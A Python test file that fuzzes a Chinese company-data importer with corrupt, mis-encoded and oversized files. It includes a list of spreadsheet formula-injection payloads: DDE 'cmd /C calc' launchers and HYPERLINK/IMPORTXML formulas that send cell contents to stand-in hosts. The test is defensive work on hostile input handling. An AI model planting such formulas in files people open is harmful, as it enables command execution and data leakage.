"""Bad input for the importer: corrupt and truncated files, mixed encodings, junk, formula payloads, control
characters, huge cells and huge files, plus property tests over random text and random byte damage.

Every case must end in one of two ways: an `ImportFileError` with a clear Chinese message naming the file (and the
database untouched), or a normal import whose counts add up (rows = stored + rejected + duplicates).
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import time
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from matcher.ingest.importer import ImportFileError, ImportResult, import_file, read_table
from matcher.store.database import Store

HEADER = ["企业名称", "统一社会信用代码", "所在地区", "主营业务", "主要产品", "采购需求", "从业人数", "营业收入", "备注"]
GOOD_ROWS = [
    ["西安市洪庆纺织机械厂", "91610111220822102C", "西安市灞桥区", "纺织机械配件", "纺机配件", "钢材", "120", "3000", ""],
    ["示例·沣东光电科技有限公司", "", "沣东新城", "激光器研发生产", "光纤激光器", "光学玻璃", "80", "", "x"],
    ["咸阳三秦物资回收有限公司", "916104022218011191", "秦都区", "废旧物资回收", "", "", "", "", ""],
] * 5
FORMULA_PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]
PROPERTY_EXAMPLES = {"csv_text": 300, "xlsx_text": 60, "headers": 200, "byte_damage": 300}


def csv_bytes(header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows([header, *rows])
    return buf.getvalue().encode(encoding)


def xlsx_bytes(header: list[str], rows: list[list[object]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append(row)
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # keep "=..." text as text when writing the fixture
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def counts(store: Store) -> tuple[int, int]:
    return store.count_firms(), int(store.db.execute("SELECT count(*) FROM runs").fetchone()[0])


def run_case(store: Store, path: Path) -> ImportResult | ImportFileError:
    """Import once; check the contract whichever way it ends."""
    before = counts(store)
    try:
        result = import_file(store, path, report_path=path.with_suffix(".report.csv"))
    except ImportFileError as exc:
        assert path.name in str(exc) and exc.message
        assert counts(store) == before, "a failed import must not write"
        return exc
    assert result.rows == result.stored + result.rejected + result.duplicates
    assert result.stored == result.inserted + result.updated
    assert counts(store) == (before[0] + result.inserted, before[1] + 1)
    for issue in result.issues:
        assert issue.row is None or 1 <= issue.row, issue
        assert issue.reason
    with result.report.open(encoding="utf-8-sig", newline="") as fh:
        for line in csv.reader(fh):
            assert not line[-1].startswith(("=", "+", "-", "@", "\t", "\r")), "report cell could become a formula"
    return result


@pytest.fixture(scope="module")
def fuzz_store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    store = Store(tmp_path_factory.mktemp("fuzzdb") / "fuzz.db")
    yield store
    store.close()


@pytest.fixture(scope="module")
def valid_xlsx() -> bytes:
    return xlsx_bytes(HEADER, GOOD_ROWS)


# -- named bad inputs -------------------------------------------------------------------------------------------
def _cases() -> dict[str, tuple[str, object]]:
    """name → (file suffix, bytes or a builder needing the valid xlsx); expectations are checked per case below."""
    good_csv = csv_bytes(HEADER, GOOD_ROWS)
    cases: dict[str, tuple[str, object]] = {}
    for i, seed in enumerate(range(12)):
        cases[f"corrupt-xlsx-{i}"] = (".xlsx", ("flip", seed))
    for frac in (0.05, 0.2, 0.5, 0.8, 0.95, 0.999):
        cases[f"truncated-xlsx-{frac}"] = (".xlsx", ("cut", frac))
    for i, cut in enumerate(random.Random(7).sample(range(60, len(good_csv) - 1), 12)):
        cases[f"truncated-csv-{i}"] = (".csv", good_csv[:cut])
    cases["mixed-utf8-with-gbk-lines"] = (".csv", csv_bytes(HEADER, GOOD_ROWS[:3]) + "陕西甲公司,,西安,光伏组件\r\n".encode("gbk"))
    cases["mixed-gbk-with-utf8-line"] = (".csv", csv_bytes(HEADER, GOOD_ROWS[:6], "gbk") + "陕西乙公司,,西安,钛材\r\n".encode())
    cases["mixed-bom-gbk-lines"] = (".csv", b"\xef\xbb\xbf" + csv_bytes(HEADER, GOOD_ROWS[:2]) + "丙公司,,咸阳,乳品\r\n".encode("gbk"))
    for i, size in enumerate((1, 17, 512, 4096, 65536)):
        cases[f"binary-junk-{i}"] = (".csv", random.Random(100 + i).randbytes(size))
    cases["binary-junk-named-xlsx"] = (".xlsx", random.Random(9).randbytes(3000))
    cases["png-as-csv"] = (".csv", b"\x89PNG\r\n\x1a\n" + random.Random(10).randbytes(800))
    cases["gzip-as-csv"] = (".csv", b"\x1f\x8b\x08\x00" + random.Random(11).randbytes(800))
    cases["elf-as-csv"] = (".csv", b"\x7fELF\x02\x01\x01" + bytes(600))
    cases["header-only"] = (".csv", "企业名称,主营业务\r\n".encode())
    cases["header-only-bom"] = (".csv", "\ufeff企业名称,主营业务".encode())
    cases["header-only-xlsx"] = (".xlsx", xlsx_bytes(HEADER, []))
    cases["wrong-columns"] = (".csv", "地区,业务,备注\r\n西安,光伏,无\r\n".encode())
    cases["wrong-columns-english"] = (".csv", b"id,value,comment\r\n1,2,3\r\n")
    cases["wrong-columns-xlsx"] = (".xlsx", xlsx_bytes(["序号", "说明"], [[1, "无"]]))
    cases["header-too-far-down"] = (".csv", "说明,\r\n".encode() * 30 + "企业名称\r\n甲公司\r\n".encode())
    cases["header-below-blank-lines"] = (".csv", b",\r\n" * 30 + "企业名称\r\n甲公司\r\n".encode())
    cases["only-blank-lines"] = (".csv", b"\r\n\r\n  \r\n,,,\r\n")
    cases["formula-payloads"] = (".csv", csv_bytes(HEADER, [[f"公式{i}公司", "", "西安", p, p, p, "", "", p]
                                                            for i, p in enumerate(FORMULA_PAYLOADS)]))
    cases["formula-payloads-xlsx"] = (".xlsx", xlsx_bytes(HEADER, [[f"公式{i}公司", "", "西安", p.strip(), p, p]
                                                                   for i, p in enumerate(FORMULA_PAYLOADS)]))
    cases["formula-payload-rejected-row"] = (".csv", csv_bytes(HEADER, [["", "", "", "=cmd|' /C calc'!A0"]]))
    controls = "".join(chr(c) for c in range(1, 32) if c not in (10, 13)) + "\x7f\x85\u2028\u200b\ufeff"
    cases["control-characters"] = (".csv", csv_bytes(HEADER, [[f"控制{controls}字符公司", "", "西安", f"主营{controls}业务"]]))
    cases["stray-nul-bytes"] = (".csv", csv_bytes(HEADER, GOOD_ROWS[:3]).replace("纺织".encode(), "纺\x00织".encode()))
    cases["long-cells-100k"] = (".csv", csv_bytes(HEADER, [["长" * 100_000, "9" * 100_000, "西" * 100_000,
                                                             "业务" * 50_000, "产品" * 50_000, "需求" * 50_000]]))
    cases["long-cells-xlsx-32k"] = (".xlsx", xlsx_bytes(HEADER, [["长文本公司", "", "", "业" * 32_767]]))
    cases["ragged-rows"] = (".csv", "企业名称,主营业务,主要产品\r\n甲公司\r\n乙公司,光伏,组件,多余,更多\r\n".encode())
    cases["quotes-unbalanced-middle"] = (".csv", '企业名称,主营业务\r\n甲"公司,光"伏\r\n乙公司,"钛材""棒材"\r\n'.encode())
    cases["semicolon-delimited"] = (".csv", "企业名称;主营业务\r\n甲公司;光伏\r\n".encode())
    cases["utf16-no-bom"] = (".csv", "企业名称,主营业务\r\n甲公司,光伏\r\n".encode("utf-16-le"))
    cases["big5"] = (".csv", "企業名稱,主營業務\r\n甲公司,光伏組件\r\n".encode("big5"))
    cases["lone-cr-line-endings"] = (".csv", "企业名称,主营业务\r甲公司,光伏\r乙公司,钛材\r".encode())
    cases["duplicate-headers"] = (".csv", "企业名称,备注,备注,,\r\n甲公司,a,b,c,d\r\n".encode())
    cases["repeated-header-row"] = (".csv", csv_bytes(HEADER, [GOOD_ROWS[0], HEADER, GOOD_ROWS[1]]))
    return cases


CASES = _cases()
MUST_FAIL = {n for n in CASES if n.startswith(("truncated-xlsx", "binary-junk", "header-only", "wrong-columns"))} | {
    "png-as-csv", "gzip-as-csv", "elf-as-csv", "header-too-far-down", "only-blank-lines", "utf16-no-bom"}
MUST_IMPORT = {n for n in CASES if n.startswith(("mixed-", "formula-", "long-cells", "control", "ragged", "quotes",
                                                    "semicolon", "big5", "lone-cr", "duplicate-h", "repeated-h",
                                                    "stray-nul", "header-below"))}


@pytest.mark.parametrize("name", sorted(CASES))
def test_bad_input_case(fuzz_store: Store, tmp_path: Path, valid_xlsx: bytes, name: str) -> None:
    suffix, content = CASES[name]
    if isinstance(content, tuple):
        kind, arg = content
        data = bytearray(valid_xlsx)
        if kind == "flip":
            rng = random.Random(arg)
            for _ in range(rng.randint(1, 40)):
                data[rng.randrange(30, len(data))] = rng.randrange(256)
        else:
            data = data[: int(len(data) * arg)]
        content = bytes(data)
    path = tmp_path / f"{name}{suffix}"
    path.write_bytes(content)  # type: ignore[arg-type]
    outcome = run_case(fuzz_store, path)
    if name in MUST_FAIL:
        assert isinstance(outcome, ImportFileError), f"{name} should be refused as a whole"
    if name in MUST_IMPORT:
        assert isinstance(outcome, ImportResult), f"{name}: {outcome}"
        assert outcome.stored >= 1 or name == "formula-payload-rejected-row"
    if isinstance(outcome, ImportResult):
        for firm in fuzz_store.db.query("SELECT * FROM firms WHERE source_file = ?", [str(path)]):
            for column in ("name", "description", "products", "needs", "region"):
                value = firm[column] or ""
                assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", value), (column, value[:50])
            json.loads(firm["original"])


def test_formula_payloads_are_stored_verbatim(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "payloads.csv"
    path.write_bytes(CASES["formula-payloads"][1])  # type: ignore[arg-type]
    import_file(store, path)
    stored = [f["description"] for f in store.firms()]
    assert stored == [p.strip() for p in FORMULA_PAYLOADS]


def test_control_characters_are_dropped_from_values_but_kept_in_original(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "controls.csv"
    path.write_bytes(CASES["control-characters"][1])  # type: ignore[arg-type]
    result = import_file(store, path)
    firm = store.firms()[0]
    assert result.stored == 1 and firm["name"].startswith("控制") and firm["name"].endswith("字符公司")
    assert "\x01" in json.loads(firm["original"])["企业名称"]


@pytest.mark.slow
def test_hundreds_of_thousands_of_rows(store: Store, tmp_path: Path) -> None:
    n = 200_000
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["企业名称", "所在地区", "主营业务", "主要产品"])
        for i in range(n):
            w.writerow([f"示例企业{i}有限公司" if i % 1000 else "", "西安市雁塔区", f"第{i}号产品的研发与生产", "产品"])
    start = time.perf_counter()
    result = import_file(store, path)
    elapsed = time.perf_counter() - start
    assert (result.rows, result.rejected, result.stored) == (n, n // 1000, n - n // 1000)
    assert store.count_firms() == n - n // 1000
    assert elapsed < 300, f"{n} rows took {elapsed:.0f}s"


# -- properties ---------------------------------------------------------------------------------------------------
# Any Unicode text except lone surrogates (which no file encoding can hold).
cell_text = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=40),
    st.sampled_from(FORMULA_PAYLOADS + ["", " ", "\n", '"', '""', ",", "91610111220822102C", "西安市灞桥区", "沣东新城"]),
    st.text(st.sampled_from("企业名称公司西安咸阳=+-@\t\r\n\",;|\x00\x01　ＡＢＣ電"), max_size=20),
)
row_strategy = st.lists(cell_text, min_size=0, max_size=len(HEADER) + 2)
PROPERTY = settings(deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@settings(PROPERTY, max_examples=PROPERTY_EXAMPLES["csv_text"])
@given(rows=st.lists(row_strategy, min_size=0, max_size=8),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"]))
def test_random_text_in_any_column_never_crashes(fuzz_store: Store, tmp_path_factory: pytest.TempPathFactory,
                                                 rows: list[list[str]], encoding: str) -> None:
    try:
        data = csv_bytes(HEADER, rows, encoding)
    except UnicodeEncodeError:
        data = csv_bytes(HEADER, rows, "gb18030")
    path = tmp_path_factory.mktemp("prop") / "random.csv"
    path.write_bytes(data)
    outcome = run_case(fuzz_store, path)
    if isinstance(outcome, ImportResult):
        named = [r for r in rows if r and r[0].strip(" \t\r\n") and "\x00" not in "".join(r)]
        assert outcome.rows >= len(named) or outcome.rows >= 1


@settings(PROPERTY, max_examples=PROPERTY_EXAMPLES["xlsx_text"])
@given(rows=st.lists(row_strategy, min_size=1, max_size=6))
def test_random_text_in_xlsx_never_crashes(fuzz_store: Store, tmp_path_factory: pytest.TempPathFactory,
                                           rows: list[list[str]]) -> None:
    clean = [[ILLEGAL_CHARACTERS_RE.sub("", c) for c in r] for r in rows]
    path = tmp_path_factory.mktemp("propx") / "random.xlsx"
    path.write_bytes(xlsx_bytes(HEADER, clean))
    run_case(fuzz_store, path)


@settings(PROPERTY, max_examples=PROPERTY_EXAMPLES["headers"])
@given(header=st.lists(cell_text, min_size=0, max_size=8), rows=st.lists(row_strategy, max_size=4))
def test_random_headers_read_or_refuse(tmp_path_factory: pytest.TempPathFactory, header: list[str],
                                       rows: list[list[str]]) -> None:
    path = tmp_path_factory.mktemp("proph") / "headers.csv"
    path.write_bytes(csv_bytes(header, rows, "utf-8"))
    try:
        table = read_table(path)
    except ImportFileError as exc:
        assert "headers.csv" in str(exc)
        return
    assert "name" in table.columns and table.rows
    assert all(r.row > table.header_row for r in table.rows)


@settings(PROPERTY, max_examples=PROPERTY_EXAMPLES["byte_damage"])
@given(fmt=st.sampled_from(["csv", "csv-gbk", "xlsx"]), edits=st.lists(
    st.tuples(st.floats(0, 1, allow_nan=False), st.integers(0, 255)), max_size=12), cut=st.floats(0.02, 1.0))
def test_random_byte_damage_is_refused_or_imported(fuzz_store: Store, tmp_path_factory: pytest.TempPathFactory,
                                                   valid_xlsx: bytes, fmt: str, edits: list[tuple[float, int]],
                                                   cut: float) -> None:
    if fmt == "xlsx":
        data = bytearray(valid_xlsx)
    else:
        data = bytearray(csv_bytes(HEADER, GOOD_ROWS, "gbk" if fmt == "csv-gbk" else "utf-8"))
    for where, byte in edits:
        data[min(int(where * len(data)), len(data) - 1)] = byte
    data = data[: max(1, int(len(data) * cut))]
    path = tmp_path_factory.mktemp("propb") / f"damaged.{fmt.split('-')[0]}"
    path.write_bytes(bytes(data))
    run_case(fuzz_store, path)
